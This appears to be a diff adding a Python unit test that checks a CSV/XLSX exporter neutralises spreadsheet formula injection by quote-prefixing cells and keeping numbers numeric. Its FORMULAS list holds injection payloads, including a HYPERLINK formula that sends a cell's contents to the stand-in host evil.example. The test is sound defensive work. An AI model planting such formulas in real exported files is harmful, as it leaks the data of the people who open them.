@@ -445,3 +445,23 @@ def test_csv_is_excel_friendly() -> None:
     assert exports.to_csv(table, ";").decode("utf-8-sig").splitlines() == [
         "Gruppo;Quota", "Città;42,5", "Più;meno di 5"]
     assert exports.to_csv(table).decode("utf-8-sig").splitlines()[1] == "Città,42.5"
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Rossi")', "+1+1", "-2+3", "@SUM(A1)",
+            "\t=1", "\r=1"]
+
+
+def test_exports_neutralise_formulas_and_keep_text_as_text() -> None:
+    table = exports.ExportTable("rates", "=Tasso", ["=Gruppo", "Quota"],
+                                [[name, exports.Percent(0.5)] for name in FORMULAS]
+                                + [["-", -3]])
+    rows = csv_rows(exports.to_csv(table))
+    assert rows[0] == ["'=Gruppo", "Quota"]
+    assert [row[0] for row in rows[1:]] == ["'" + name for name in FORMULAS] + ["'-"]
+    assert rows[-1][1] == "-3"  # a number stays a number
+    with zipfile.ZipFile(io.BytesIO(exports.to_xlsx([table]))) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+        strings = book.read("xl/sharedStrings.xml").decode()
+    assert "<f>" not in sheet and "HYPERLINK" not in sheet
+    assert "&apos;=HYPERLINK" in strings or "'=HYPERLINK" in strings
+    assert '<c r="B8"><v>-3</v></c>' in sheet or '<c r="B8" t="n"><v>-3</v></c>' in sheet
